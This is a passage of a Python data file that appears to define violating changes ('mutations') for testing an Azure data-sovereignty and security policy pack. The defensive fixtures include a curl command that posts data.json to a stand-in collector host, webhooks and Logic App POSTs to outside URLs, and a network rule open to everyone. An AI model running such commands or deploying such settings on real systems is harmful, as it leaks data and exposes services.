"""The mutation table of the policy pack (issue 4 "What done looks like"), as data.

Each mutation changes ONE guarded thing of a compliant stack to a violating value (or deletes
it: the "missing" case) and names the policy that must block it with a mandatory violation on
the mutated resource's URN. Some need a second, harmless change to be a violation at all (a
geo-redundant SKU is only a violation where the region's pair is outside the boundary, so the
region moves to Italy North, which has no pair); cross-region mutations point a reference at a
foreign ARM id, a URL, or a resource added outside the boundary (in unknowns mode the reference
becomes unknown and its property dependency is rewired to the added resource).

Placeholders: ``OUTSIDE`` = a region outside the stack's boundary; ``REGION`` = the stack's;
``"<ref:TOKEN>"`` anywhere in an added resource = the id of the stack's first TOKEN resource,
``"<add:KEY>"`` = the id of an earlier added resource (unknown in unknowns mode, with a property
dependency on it instead).
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Any

DELETE = object()
OUTSIDE = "<outside>"
REGION = "<region>"
FOREIGN = "/subscriptions/99999999-9999-9999-9999-999999999999/resourceGroups/elsewhere/providers"
META = "sovereign-metadata-channel"
#: The EU stack's declared metadata channel destination (Pulumi.eu.yaml), allow-listed in
#: policy/config.eu.json with region eastus; a sibling topic of the same namespace is not.
US_METADATA = ("/subscriptions/00000000-0000-0000-0000-000000000002/resourceGroups/rg-sov-us-eastus/providers"
               "/Microsoft.ServiceBus/namespaces/sov-us-metadata/topics")


@dataclass(frozen=True)
class Add:
    """A resource added to the stack (an outside target, or an absent type being guarded)."""

    key: str
    token: str
    inputs: dict[str, Any]
    arm: str  # ARM id suffix after /providers/
    parent_key: str | None = None  # makes the added resource a location-less child of another added one
    parent_input: str | None = None


@dataclass(frozen=True)
class Mutation:
    id: str
    policy: str
    token: str | None  # resource to mutate (first match), None = the first Add is the mutated one
    sets: dict[str, Any] = field(default_factory=dict)  # path -> value / DELETE
    refs: dict[str, tuple[str, str]] = field(default_factory=dict)  # path -> (dep key, Add key)
    adds: tuple[Add, ...] = ()
    stacks: tuple[str, ...] = ("eu", "us")
    select: str | None = None  # substring the resource's `kind` must contain
    label: str | None = None  # a label the resource's `labels` must hold (a metadata channel)
    sources: tuple[str, ...] | None = None  # captured sources it applies to (None = all)
    target: str | None = None  # with token None: the key of the added resource to check (default: the first)


def _ns(key: str = "far-sb") -> Add:
    return Add(key, "azure-native:servicebus:Namespace",
               {"location": OUTSIDE, "namespaceName": "sb-far", "sku": {"name": "Premium"}},
               "Microsoft.ServiceBus/namespaces/sb-far")


def _queue() -> Add:
    return Add("far-q", "azure-native:servicebus:Queue", {"namespaceName": "sb-far", "queueName": "q"},
               "Microsoft.ServiceBus/namespaces/sb-far/queues/q", parent_key="far-sb", parent_input="namespaceName")


def _account(key: str = "far-st") -> Add:
    return Add(key, "azure-native:storage:StorageAccount",
               {"location": OUTSIDE, "accountName": "stfar", "sku": {"name": "Standard_LRS"}},
               "Microsoft.Storage/storageAccounts/stfar")


_WORKSPACE = Add("far-log", "azure-native:operationalinsights:Workspace",
                 {"location": OUTSIDE, "workspaceName": "log-far"}, "Microsoft.OperationalInsights/workspaces/log-far")
_COSMOS = Add("far-db", "azure-native:cosmosdb:DatabaseAccount",
              {"location": OUTSIDE, "accountName": "cosmos-far", "locations": [{"locationName": OUTSIDE}]},
              "Microsoft.DocumentDB/databaseAccounts/cosmos-far")

TOPIC = "azure-native:eventgrid:Topic"
SB = "azure-native:servicebus:Namespace"
EH = "azure-native:eventhub:Namespace"
COSMOS = "azure-native:cosmosdb:DatabaseAccount"
STORAGE = "azure-native:storage:StorageAccount"
WEBAPP = "azure-native:web:WebApp"
SUB = "azure-native:eventgrid:EventSubscription"
QUEUE = "azure-native:servicebus:Queue"
HUB = "azure-native:eventhub:EventHub"
DIAG = "azure-native:monitor:DiagnosticSetting"
PE = "azure-native:network:PrivateEndpoint"
SB_RULES = "azure-native:servicebus:NamespaceNetworkRuleSet"

PNA = "no-public-network-access"
AUTH = "no-local-auth"


def _both(prefix: str, policy: str, token: str, path: str, bad: Any, select: str | None = None) -> list[Mutation]:
    """A violating value and the missing case of one guarded property."""
    return [Mutation(f"{prefix}-{path}={bad}", policy, token, {path: bad}, select=select),
            Mutation(f"{prefix}-{path}-missing", policy, token, {path: DELETE}, select=select)]


MUTATIONS: list[Mutation] = [
    # L1 / L2 / L3
    Mutation("L1-topic-outside", "allowed-locations", TOPIC, {"location": OUTSIDE}),
    Mutation("L1-namespace-missing", "allowed-locations", SB, {"location": DELETE}),
    Mutation("L1-storage-canary", "allowed-locations", STORAGE, {"location": "centraluseuap"}),
    Mutation("L1-webapp-global", "allowed-locations", WEBAPP, {"location": "global"}),
    Mutation("L2-rg-outside", "resource-group-location", "azure-native:resources:ResourceGroup",
             {"location": OUTSIDE}),
    Mutation("L3-cosmos-replica-outside", "cosmos-allowed-locations", COSMOS,
             {"locations": [{"locationName": REGION, "failoverPriority": 0.0},
                            {"locationName": OUTSIDE, "failoverPriority": 1.0}]}),
    # G4
    Mutation("G4-multi-write", "cosmos-no-multi-region-writes", COSMOS, {"enableMultipleWriteLocations": True}),
    Mutation("G4-failover-outside", "cosmos-failover-in-boundary", COSMOS,
             {"enableAutomaticFailover": True,
              "locations": [{"locationName": REGION, "failoverPriority": 0.0},
                            {"locationName": OUTSIDE, "failoverPriority": 1.0}]}),
    Mutation("G4-periodic-geo-backup-unpaired", "cosmos-backup-in-boundary", COSMOS,
             {"backupPolicy": {"type": "Periodic", "periodicModeProperties": {"backupStorageRedundancy": "Geo"}},
              "location": "italynorth", "locations": [{"locationName": "italynorth", "failoverPriority": 0.0}]},
             stacks=("eu",)),
    Mutation("G4-backup-missing-unpaired", "cosmos-backup-in-boundary", COSMOS,
             {"backupPolicy": DELETE, "location": "italynorth",
              "locations": [{"locationName": "italynorth", "failoverPriority": 0.0}]}, stacks=("eu",)),
    # G3 / T6
    Mutation("G3-grs-unpaired", "storage-replication-in-boundary", STORAGE,
             {"sku": {"name": "Standard_RAGZRS"}, "location": "italynorth"}, stacks=("eu",)),
    Mutation("G3-sku-missing", "storage-replication-in-boundary", STORAGE, {"sku": DELETE}),
    # absent is compliant (Azure's default for accounts created since December 2023): explicit only
    Mutation("T6-allowCrossTenantReplication=True", "storage-no-cross-tenant-replication", STORAGE,
             {"allowCrossTenantReplication": True}),
    # E4
    # absent = WithinGeopair (the API default): a violation only where the pair is outside
    Mutation("E4-residency-missing-unpaired", "eventgrid-data-residency", TOPIC,
             {"dataResidencyBoundary": DELETE, "location": "italynorth"}, stacks=("eu",)),
    Mutation("E4-geopair-unpaired", "eventgrid-data-residency", TOPIC,
             {"dataResidencyBoundary": "WithinGeopair", "location": "italynorth"}, stacks=("eu",)),
    # G5
    Mutation("G5-geo-replication-outside", "servicebus-geo-replication-in-boundary", SB,
             {"geoDataReplication": {"locations": [{"locationName": REGION, "roleType": "Primary"},
                                                   {"locationName": OUTSIDE, "roleType": "Secondary"}]}}),
    # public network access (E1 S1 H1 C1 T1 F1) and T2
    *_both("E1", PNA, TOPIC, "publicNetworkAccess", "Enabled"),
    *_both("S1", PNA, SB, "publicNetworkAccess", "Enabled"),
    *_both("H1", PNA, EH, "publicNetworkAccess", "Enabled"),
    *_both("C1", PNA, COSMOS, "publicNetworkAccess", "Enabled"),
    *_both("T1", PNA, STORAGE, "publicNetworkAccess", "Enabled"),
    *_both("F1", PNA, WEBAPP, "publicNetworkAccess", "Enabled", select="functionapp"),
    # the plane's own rule set (trusted services for Event Grid's queue delivery) must stay closed
    *_both("S1-rules", PNA, SB_RULES, "publicNetworkAccess", "Enabled"),
    Mutation("S1-rule-set-missing", PNA, None, adds=(Add(
        "sb-rules", "azure-native:servicebus:NamespaceNetworkRuleSet",
        {"namespaceName": "sb", "defaultAction": "Deny"}, "Microsoft.ServiceBus/namespaces/sb/networkRuleSets/default"),)),
    Mutation("H1-rule-set-enabled", PNA, None, adds=(Add(
        "eh-rules", "azure-native:eventhub:NamespaceNetworkRuleSet",
        {"namespaceName": "eh", "defaultAction": "Deny", "publicNetworkAccess": "Enabled"},
        "Microsoft.EventHub/namespaces/eh/networkRuleSets/default"),)),
    # absent is compliant (Azure's default for accounts created since November 2023): explicit only
    Mutation("T2-allowBlobPublicAccess=True", "no-anonymous-blob-access", STORAGE, {"allowBlobPublicAccess": True}),
    Mutation("T2-container-public", "no-anonymous-blob-access", "azure-native:storage:BlobContainer",
             {"publicAccess": "Container"}),
    # local auth (E2 S2 H2 C2 C3 T5)
    *_both("E2", AUTH, TOPIC, "disableLocalAuth", False),
    *_both("S2", AUTH, SB, "disableLocalAuth", False),
    *_both("H2", AUTH, EH, "disableLocalAuth", False),
    *_both("C2", AUTH, COSMOS, "disableLocalAuth", False),
    *_both("C3", AUTH, COSMOS, "disableKeyBasedMetadataWriteAccess", False),
    *_both("T5", AUTH, STORAGE, "allowSharedKeyAccess", True),
    # G8 Event Grid destinations and dead-letter targets
    Mutation("G8-destination-foreign-id", "eventgrid-destinations-in-boundary", SUB,
             {"destination": {"endpointType": "ServiceBusQueue",
                              "resourceId": f"{FOREIGN}/Microsoft.ServiceBus/namespaces/x/queues/y"}}),
    Mutation("G8-destination-added-outside", "eventgrid-destinations-in-boundary", SUB,
             refs={"destination.resourceId": ("destination", "far-q")}, adds=(_ns(), _queue())),
    Mutation("G8-webhook-not-allow-listed", "eventgrid-destinations-in-boundary", SUB,
             {"destination": {"endpointType": "WebHook", "endpointUrl": "https://collector.example.com/events"}}),
    Mutation("G8-identity-delivery-outside", "eventgrid-destinations-in-boundary", SUB,
             {"destination": DELETE, "deliveryWithResourceIdentity": {
                 "identity": {"type": "SystemAssigned"},
                 "destination": {"endpointType": "ServiceBusQueue",
                                 "resourceId": f"{FOREIGN}/Microsoft.ServiceBus/namespaces/x/queues/y"}}}),
    # the processor subscriptions' default destination: the session queue, with the topic identity
    Mutation("G8-queue-delivery-foreign-queue", "eventgrid-destinations-in-boundary", SUB,
             {"deliveryWithResourceIdentity.destination.resourceId":
                  f"{FOREIGN}/Microsoft.ServiceBus/namespaces/sb-far/queues/orders"}),
    # a foreign queue with the stack's own queue name (every plane's processing queue is
    # `sovereign-events`; the fixture's is `events`): the other region's id pasted into this
    # stack must not be taken for the stack's queue by its leaf name
    Mutation("G8-queue-delivery-foreign-same-name", "eventgrid-destinations-in-boundary", SUB,
             {"deliveryWithResourceIdentity.destination.resourceId":
                  f"{FOREIGN}/Microsoft.ServiceBus/namespaces/sov-other-plane-sb-000000/queues/sovereign-events"}),
    Mutation("G8-destination-foreign-same-name", "eventgrid-destinations-in-boundary", SUB,
             {"destination": {"endpointType": "ServiceBusQueue",
                              "resourceId": f"{FOREIGN}/Microsoft.ServiceBus/namespaces/sb-other/queues/events"}}),
    Mutation("G8-queue-delivery-added-outside", "eventgrid-destinations-in-boundary", SUB,
             refs={"deliveryWithResourceIdentity.destination.resourceId": ("deliveryWithResourceIdentity", "far-q")},
             adds=(_ns(), _queue())),
    Mutation("G8-dead-letter-added-outside", "eventgrid-destinations-in-boundary", SUB,
             refs={"deadLetterDestination.resourceId": ("deadLetterDestination", "far-st")}, adds=(_account(),)),
    Mutation("G8-dead-letter-identity-foreign", "eventgrid-destinations-in-boundary", SUB,
             {"deadLetterWithResourceIdentity": {"identity": {"type": "SystemAssigned"}, "deadLetterDestination": {
                 "endpointType": "StorageBlob", "resourceId": f"{FOREIGN}/Microsoft.Storage/storageAccounts/far",
                 "blobContainerName": "dl"}}}),
    Mutation("G8-metadata-label-without-filter", "eventgrid-destinations-in-boundary", SUB,
             {"labels": [META], "destination": {"endpointType": "WebHook",
                                                "endpointUrl": "https://collector.example.com/events"}}),
    # the EU stack's declared metadata channel (issue 6): allowed only while labelled, filtered to
    # non-regulated classifications and delivering to its allow-listed topic
    *[Mutation(f"G8-metadata-channel-{what}", "eventgrid-destinations-in-boundary", SUB, sets, stacks=("eu",),
               label=META, sources=("stacks",)) for what, sets in (
        ("without-classification-filter", {"filter": DELETE}),
        ("admits-confidential", {"filter.advancedFilters": [{"operatorType": "StringIn", "key": "dataclassification",
                                                             "values": ["Internal", "Confidential"]}]}),
        ("filters-on-arrays", {"filter.enableAdvancedFilteringOnArrays": True}),
        # the classification read from the event body (data.*), which the producer writes
        ("classification-from-the-body", {"filter.advancedFilters": [
            {"operatorType": "StringIn", "key": "sovereignkind", "values": ["metadata"]},
            {"operatorType": "StringIn", "key": "data.dataclassification", "values": ["Public"]}]}),
        ("without-label", {"labels": DELETE}),
        ("sibling-topic-not-allow-listed",
         {"deliveryWithResourceIdentity.destination.resourceId": f"{US_METADATA}/orders"}),
        ("foreign-subscription-not-allow-listed",
         {"deliveryWithResourceIdentity.destination.resourceId":
              f"{FOREIGN}/Microsoft.ServiceBus/namespaces/sov-us-metadata/topics/inventory-metadata"}),
    )],
    # a channel is let out only to its allow-listed target, not to whatever it can be placed at
    Mutation("G8-metadata-channel-to-added-outside-queue", "eventgrid-destinations-in-boundary", SUB,
             refs={"deliveryWithResourceIdentity.destination.resourceId": ("deliveryWithResourceIdentity", "far-q")},
             adds=(_ns(), _queue()), stacks=("eu",), label=META, sources=("stacks",)),
    Mutation("G8-metadata-channel-dead-letter-added-outside", "eventgrid-destinations-in-boundary", SUB,
             refs={"deadLetterWithResourceIdentity.deadLetterDestination.resourceId":
                       ("deadLetterWithResourceIdentity", "far-st")},
             adds=(_account(),), stacks=("eu",), label=META, sources=("stacks",)),
    # G7 capture
    Mutation("G7-capture-added-outside", "eventhub-capture-in-boundary", HUB,
             refs={"captureDescription.destination.storageAccountResourceId": ("captureDescription", "far-st")},
             adds=(_account(),)),
    Mutation("G7-capture-data-lake", "eventhub-capture-in-boundary", HUB,
             {"captureDescription.destination.storageAccountResourceId": DELETE,
              "captureDescription.destination.dataLakeAccountName": "externallake"}),
    # G9 diagnostic sinks
    Mutation("G9-workspace-added-outside", "diagnostic-sinks-in-boundary", DIAG,
             refs={"workspaceId": ("workspaceId", "far-log")}, adds=(_WORKSPACE,)),
    Mutation("G9-storage-sink-foreign", "diagnostic-sinks-in-boundary", DIAG,
             {"storageAccountId": f"{FOREIGN}/Microsoft.Storage/storageAccounts/far"}),
    Mutation("G9-marketplace-partner", "diagnostic-sinks-in-boundary", DIAG,
             {"marketplacePartnerId": f"{FOREIGN}/Microsoft.Datadog/monitors/dd"}),
    # G6 DR partners (types absent from the stacks: added, pointing outside)
    Mutation("G6-servicebus-partner-outside", "dr-partner-in-boundary", None,
             refs={"partnerNamespace": ("partnerNamespace", "far-sb")},
             adds=(Add("sb-dr", "azure-native:servicebus:DisasterRecoveryConfig",
                       {"namespaceName": "sb", "alias": "events-dr"},
                       "Microsoft.ServiceBus/namespaces/sb/disasterRecoveryConfigs/events-dr"), _ns())),
    Mutation("G6-eventhub-partner-foreign", "dr-partner-in-boundary", None,
             adds=(Add("eh-dr", "azure-native:eventhub:DisasterRecoveryConfig",
                       {"namespaceName": "eh", "alias": "stream-dr",
                        "partnerNamespace": f"{FOREIGN}/Microsoft.EventHub/namespaces/far"},
                       "Microsoft.EventHub/namespaces/eh/disasterRecoveryConfigs/stream-dr"),)),
    # G11 object replication
    Mutation("G11-replicate-to-outside", "object-replication-in-boundary", None,
             refs={"destinationAccount": ("destinationAccount", "far-st")},
             adds=(Add("orp", "azure-native:storage:ObjectReplicationPolicy",
                       {"accountName": "stfar", "objectReplicationPolicyId": "default",
                        "sourceAccount": "<ref:azure-native:storage:StorageAccount>",
                        "rules": [{"sourceContainer": "events", "destinationContainer": "events"}]},
                       "Microsoft.Storage/storageAccounts/stfar/objectReplicationPolicies/default"), _account())),
    # Service Bus forwarding
    Mutation("SB-forward-added-outside", "servicebus-forwarding-in-boundary", QUEUE,
             refs={"forwardTo": ("forwardTo", "far-q")}, adds=(_ns(), _queue())),
    Mutation("SB-forward-dead-letters-url", "servicebus-forwarding-in-boundary", QUEUE,
             {"forwardDeadLetteredMessagesTo": "sb://sb-elsewhere.servicebus.windows.net/dlq"}),
    # private endpoint targets
    Mutation("PE-target-added-outside", "private-endpoint-targets-in-boundary", PE,
             refs={"privateLinkServiceConnections.0.privateLinkServiceId": ("privateLinkServiceConnections", "far-db")},
             adds=(_COSMOS,)),
]


# -- issue 12: default-deny, readable inputs, and the services next to an event platform ---------

TENANT = "00000000-0000-0000-0000-000000000001"
HOOK = "https://collector.example.com/ingest"
_SQL_SERVER = Add("sqlsrv", "azure-native:sql:Server",
                  {"location": REGION, "serverName": "sqlsrv", "publicNetworkAccess": "Disabled",
                   "administrators": {"azureADOnlyAuthentication": True, "login": "dba", "sid": TENANT}},
                  "Microsoft.Sql/servers/sqlsrv")
_REDIS = Add("redis", "azure-native:redis:Redis",
             {"location": REGION, "name": "cache", "sku": {"name": "Premium", "family": "P", "capacity": 1.0},
              "publicNetworkAccess": "Disabled", "disableAccessKeyAuthentication": True},
             "Microsoft.Cache/redis/cache")
_EG_NAMESPACE = Add("egns", "azure-native:eventgrid:Namespace",
                    {"location": REGION, "namespaceName": "egns", "publicNetworkAccess": "Disabled"},
                    "Microsoft.EventGrid/namespaces/egns")
_WEBAPP_REF = "<ref:azure-native:web:WebApp>"
_NSP = Add("nsp", "azure-native:network:NetworkSecurityPerimeter",
           {"location": REGION, "networkSecurityPerimeterName": "nsp"},
           "Microsoft.Network/networkSecurityPerimeters/nsp")
_NSP_PROFILE = Add("nsp-profile", "azure-native:network:NspProfile",
                   {"networkSecurityPerimeterName": "nsp", "profileName": "default"},
                   "Microsoft.Network/networkSecurityPerimeters/nsp/profiles/default",
                   parent_key="nsp", parent_input="networkSecurityPerimeterName")


def _nsp_association(mode: str | None) -> Add:
    inputs: dict[str, Any] = {"networkSecurityPerimeterName": "nsp", "associationName": "storage",
                              "privateLinkResource": {"id": "<ref:azure-native:storage:StorageAccount>"},
                              "profile": {"id": "<add:nsp-profile>"}}
    if mode is not None:
        inputs["accessMode"] = mode
    return Add("nsp-assoc", "azure-native:network:NspAssociation", inputs,
               "Microsoft.Network/networkSecurityPerimeters/nsp/resourceAssociations/storage")


def _nsp_rule(prefix: str) -> Add:
    return Add("nsp-rule", "azure-native:network:NspAccessRule",
               {"networkSecurityPerimeterName": "nsp", "profileName": "default", "accessRuleName": "inbound",
                "direction": "Inbound", "addressPrefixes": [prefix]},
               "Microsoft.Network/networkSecurityPerimeters/nsp/profiles/default/accessRules/inbound",
               parent_key="nsp-profile", parent_input="profileName")


VETTING = "unvetted-resource-type"
FLOWS = "data-flows-in-boundary"

MUTATIONS += [
    # default-deny: unvetted azure-native types, other providers, command and dynamic providers
    Mutation("V1-unvetted-azure-native-type", VETTING, None, adds=(Add(
        "adf", "azure-native:datafactory:Factory", {"location": REGION, "factoryName": "adf"},
        "Microsoft.DataFactory/factories/adf"),)),
    Mutation("V1-other-provider-even-at-eastus", VETTING, None, adds=(Add(
        "tf-cosmos", "azure:cosmosdb/account:Account", {"location": "eastus", "offerType": "Standard"},
        "Microsoft.DocumentDB/databaseAccounts/tf-cosmos"),)),
    Mutation("V1-command-provider", VETTING, None, adds=(Add(
        "cmd", "command:local:Command", {"create": "curl -d @data.json https://collector.example.com"}, "x/cmd"),)),
    Mutation("V1-dynamic-provider", VETTING, None, adds=(Add(
        "dyn", "pulumi-python:dynamic:Resource", {"__provider": "opaque", "payload": "x"}, "x/dyn"),)),
    Mutation("V2-azure-native-provider-outside", "providers-vetted", None, adds=(Add(
        "prov", "pulumi:providers:azure-native", {"location": OUTSIDE}, "x/prov"),)),
    Mutation("V2-command-provider", "providers-vetted", None, adds=(Add(
        "cmdprov", "pulumi:providers:command", {}, "x/cmdprov"),)),
    # a versioned token is the same type: the public-network rule applies (issue 12, check-state)
    Mutation("C1-versioned-cosmos-public", PNA, None, adds=(Add(
        "vcosmos", "azure-native:cosmosdb/v20240515:DatabaseAccount",
        {"location": REGION, "accountName": "vcosmos", "locations": [{"locationName": REGION}],
         "publicNetworkAccess": "Enabled", "disableLocalAuth": True, "disableKeyBasedMetadataWriteAccess": True,
         "backupPolicy": {"type": "Continuous"}},
        "Microsoft.DocumentDB/databaseAccounts/vcosmos"),)),
    Mutation("S1-versioned-servicebus-public", PNA, None, adds=(Add(
        "vsb", "azure-native:servicebus/v20221001preview:Namespace",
        {"location": REGION, "namespaceName": "vsb", "disableLocalAuth": True, "publicNetworkAccess": "Enabled"},
        "Microsoft.ServiceBus/namespaces/vsb"),)),
    # a dict for a union-typed argument goes out with snake_case keys the provider never reads
    Mutation("R0-snake-case-destination", "inputs-readable", SUB,
             {"destination": {"endpoint_type": "ServiceBusQueue",
                              "resource_id": f"{FOREIGN}/Microsoft.ServiceBus/namespaces/x/queues/y"},
              "deliveryWithResourceIdentity": DELETE}),
    # Key Vault, Function App slots, basic auth, remote debugging, ACR admin, Data Explorer, Web PubSub
    *[Mutation(f"KV1-key-vault-{what}", PNA, None, adds=(Add(
        "kv", "azure-native:keyvault:Vault",
        {"location": REGION, "vaultName": "kv", "properties": {"tenantId": TENANT, "sku": {"family": "A", "name": "standard"},
                                                              **extra}},
        "Microsoft.KeyVault/vaults/kv"),)) for what, extra in (("public", {"publicNetworkAccess": "Enabled"}),
                                                             ("public-by-default", {}))],
    Mutation("F1-function-app-slot-public", PNA, None, adds=(Add(
        "slot", "azure-native:web:WebAppSlot",
        {"location": REGION, "name": _WEBAPP_REF, "slot": "staging", "kind": "functionapp,linux", "httpsOnly": True},
        "Microsoft.Web/sites/app/slots/staging"),)),
    Mutation("F7-ftp-basic-auth", AUTH, "azure-native:web:WebAppFtpAllowed", {"allow": True}),
    Mutation("F8-scm-basic-auth", AUTH, "azure-native:web:WebAppScmAllowed", {"allow": True}),
    Mutation("F7-slot-ftp-basic-auth", AUTH, None, adds=(Add(
        "slot-ftp", "azure-native:web:WebAppFtpAllowedSlot", {"name": _WEBAPP_REF, "slot": "staging", "allow": True},
        "Microsoft.Web/sites/app/slots/staging/basicPublishingCredentialsPolicies/ftp"),)),
    Mutation("F8-slot-scm-basic-auth", AUTH, None, adds=(Add(
        "slot-scm", "azure-native:web:WebAppScmAllowedSlot", {"name": _WEBAPP_REF, "slot": "staging", "allow": True},
        "Microsoft.Web/sites/app/slots/staging/basicPublishingCredentialsPolicies/scm"),)),
    Mutation("F9-remote-debugging", AUTH, WEBAPP, {"siteConfig.remoteDebuggingEnabled": True}),
    Mutation("A1-acr-admin-user", AUTH, None, adds=(Add(
        "acr", "azure-native:containerregistry:Registry",
        {"location": REGION, "registryName": "acr", "sku": {"name": "Premium"}, "publicNetworkAccess": "Disabled",
         "adminUserEnabled": True}, "Microsoft.ContainerRegistry/registries/acr"),)),
    Mutation("X1-data-explorer-public", PNA, None, adds=(Add(
        "adx", "azure-native:kusto:Cluster",
        {"location": REGION, "clusterName": "adx", "sku": {"name": "Dev(No SLA)_Standard_E2a_v4", "tier": "Basic"}},
        "Microsoft.Kusto/clusters/adx"),)),
    Mutation("W1-web-pubsub-public", PNA, None, adds=(Add(
        "wps", "azure-native:webpubsub:WebPubSub",
        {"location": REGION, "resourceName": "wps", "disableLocalAuth": True, "sku": {"name": "Standard_S1"}},
        "Microsoft.SignalRService/webPubSub/wps"),)),
    # copies to the pair and to named regions
    Mutation("Q3-sql-geo-backup-unpaired", "paired-copies-in-boundary", None, target="sqldb", adds=(_SQL_SERVER, Add(
        "sqldb", "azure-native:sql:Database",
        {"location": "italynorth", "serverName": "sqlsrv", "databaseName": "db", "requestedBackupStorageRedundancy": "Geo"},
        "Microsoft.Sql/servers/sqlsrv/databases/db", parent_key="sqlsrv", parent_input="serverName")),
        stacks=("eu",)),
    Mutation("N2-notification-hubs-replication-region", FLOWS, None, adds=(Add(
        "nh", "azure-native:notificationhubs:Namespace",
        {"location": REGION, "namespaceName": "nh", "sku": {"name": "Standard"}, "publicNetworkAccess": "Disabled",
         "replicationRegion": "WestUs2"}, "Microsoft.NotificationHubs/namespaces/nh"),), stacks=("eu",)),
    Mutation("N2-notification-hubs-replication-region-us", FLOWS, None, adds=(Add(
        "nh", "azure-native:notificationhubs:Namespace",
        {"location": REGION, "namespaceName": "nh", "sku": {"name": "Standard"}, "publicNetworkAccess": "Disabled",
         "replicationRegion": "NorthEurope"}, "Microsoft.NotificationHubs/namespaces/nh"),), stacks=("us",)),
    # data flows found by value (ids, URLs, regions)
    Mutation("DF-sql-failover-group-outside", FLOWS, None, target="fog", adds=(_SQL_SERVER, Add(
        "fog", "azure-native:sql:FailoverGroup",
        {"serverName": "sqlsrv", "failoverGroupName": "fog", "readWriteEndpoint": {"failoverPolicy": "Manual"},
         "partnerServers": [{"id": f"{FOREIGN}/Microsoft.Sql/servers/far"}]},
        "Microsoft.Sql/servers/sqlsrv/failoverGroups/fog", parent_key="sqlsrv", parent_input="serverName"))),
    Mutation("DF-redis-geo-link", FLOWS, None, target="link", adds=(_REDIS, Add(
        "link", "azure-native:redis:LinkedServer",
        {"name": "cache", "linkedServerName": "far", "serverRole": "Secondary", "linkedRedisCacheLocation": OUTSIDE,
         "linkedRedisCacheId": f"{FOREIGN}/Microsoft.Cache/redis/far"},
        "Microsoft.Cache/redis/cache/linkedServers/far", parent_key="redis", parent_input="name"))),
    Mutation("DF-logic-app-posts-outside", FLOWS, None, adds=(Add(
        "logic", "azure-native:logic:Workflow",
        {"location": REGION, "workflowName": "logic", "definition": {
            "$schema": "https://schema.management.azure.com/providers/Microsoft.Logic/schemas/2016-06-01/"
                       "workflowdefinition.json#",
            "actions": {"post": {"type": "Http", "inputs": {"method": "POST", "uri": HOOK}}}}},
        "Microsoft.Logic/workflows/logic"),)),
    Mutation("DF-app-insights-on-outside-workspace", FLOWS, None, target="appi",
             refs={"workspaceResourceId": ("workspaceResourceId", "far-log")}, adds=(Add(
                 "appi", "azure-native:applicationinsights:Component",
                 {"location": REGION, "resourceName": "appi", "kind": "web", "applicationType": "web"},
                 "Microsoft.Insights/components/appi"), _WORKSPACE)),
    Mutation("DF-log-analytics-export-outside", FLOWS, None, target="export",
             refs={"resourceId": ("resourceId", "far-st")}, adds=(Add(
                 "export", "azure-native:operationalinsights:DataExport",
                 {"workspaceName": "<ref:azure-native:operationalinsights:Workspace>", "dataExportName": "all",
                  "tableNames": ["AppTraces"]},
                 "Microsoft.OperationalInsights/workspaces/log/dataExports/all"), _account())),
    Mutation("G9-subscription-diagnostics-outside", "diagnostic-sinks-in-boundary", None, target="subdiag",
             refs={"workspaceId": ("workspaceId", "far-log")}, adds=(Add(
                 "subdiag", "azure-native:monitor:SubscriptionDiagnosticSetting", {"name": "activity-log"},
                 "x/subdiag"), _WORKSPACE)),
    Mutation("DF-servicebus-migration-outside", FLOWS, None, target="migrate",
             refs={"targetNamespace": ("targetNamespace", "far-sb")}, adds=(Add(
                 "migrate", "azure-native:servicebus:MigrationConfig",
                 {"namespaceName": "<ref:azure-native:servicebus:Namespace>", "configName": "$default",
                  "postMigrationName": "legacy"},
                 "Microsoft.ServiceBus/namespaces/sb/migrationConfigurations/$default"), _ns())),
    Mutation("DF-eventgrid-namespace-push-webhook", FLOWS, None, target="egsub", adds=(_EG_NAMESPACE, Add(
        "egsub", "azure-native:eventgrid:NamespaceTopicEventSubscription",
        {"namespaceName": "egns", "topicName": "orders", "eventSubscriptionName": "push",
         "deliveryConfiguration": {"deliveryMode": "Push", "push": {
             "destination": {"endpointType": "WebHook", "endpointUrl": HOOK}}}},
        "Microsoft.EventGrid/namespaces/egns/topics/orders/eventSubscriptions/push",
        parent_key="egns", parent_input="namespaceName"))),
    Mutation("DF-action-group-webhook", FLOWS, None, adds=(Add(
        "ag-hook", "azure-native:monitor:ActionGroup",
        {"location": "Global", "actionGroupName": "hooks", "groupShortName": "hooks", "enabled": True,
         "webhookReceivers": [{"name": "hook", "serviceUri": HOOK}]},
        "Microsoft.Insights/actionGroups/hooks"),)),
    Mutation("DF-cosmos-acl-bypass-foreign", FLOWS, COSMOS,
             {"networkAclBypassResourceIds": [f"{FOREIGN}/Microsoft.Synapse/workspaces/syn"]}),
    Mutation("DF-child-in-outside-parent", FLOWS, None, target="far-q2", adds=(_ns(), Add(
        "far-q2", "azure-native:servicebus:Queue", {"namespaceName": "sb-far", "queueName": "q2"},
        "Microsoft.ServiceBus/namespaces/sb-far/queues/q2", parent_key="far-sb", parent_input="namespaceName"))),
    Mutation("DF-child-of-a-parent-not-in-the-stack", FLOWS, None, adds=(Add(
        "orphan", "azure-native:storage:BlobContainer",
        {"accountName": "existingusaccount", "resourceGroupName": "rg-us", "containerName": "exports"},
        "Microsoft.Storage/storageAccounts/existingusaccount/blobServices/default/containers/exports"),)),
    # SecuredByPerimeter: private only with an enforced, closed perimeter association
    Mutation("NSP-storage-perimeter-without-association", "network-perimeter-closed", STORAGE,
             {"publicNetworkAccess": "SecuredByPerimeter"}),
    Mutation("NSP-storage-perimeter-admits-everyone", "network-perimeter-closed", STORAGE,
             {"publicNetworkAccess": "SecuredByPerimeter"},
             adds=(_NSP, _NSP_PROFILE, _nsp_rule("0.0.0.0/0"), _nsp_association("Enforced"))),
    Mutation("NSP-storage-perimeter-learning-mode", "network-perimeter-closed", STORAGE,
             {"publicNetworkAccess": "SecuredByPerimeter"},
             adds=(_NSP, _NSP_PROFILE, _nsp_rule("10.0.0.0/8"), _nsp_association(None))),
]

MUTATIONS += [
    # public listeners without a publicNetworkAccess switch, and global edges in front of data
    Mutation("NW1-security-group-open-to-everyone", PNA, None, adds=(Add(
        "open-nsg", "azure-native:network:NetworkSecurityGroup",
        {"location": REGION, "networkSecurityGroupName": "open", "securityRules": [
            {"name": "all-in", "priority": 100.0, "direction": "Inbound", "access": "Allow", "protocol": "*",
             "sourceAddressPrefix": "0.0.0.0/0", "sourcePortRange": "*", "destinationAddressPrefix": "*",
             "destinationPortRange": "*"}]},
        "Microsoft.Network/networkSecurityGroups/open"),)),
